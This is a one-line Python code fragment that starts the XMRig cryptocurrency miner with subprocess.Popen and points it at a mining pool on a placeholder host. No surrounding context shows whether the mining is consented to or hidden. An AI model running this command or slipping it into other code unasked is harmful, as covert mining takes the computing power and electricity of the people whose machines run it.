subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"])
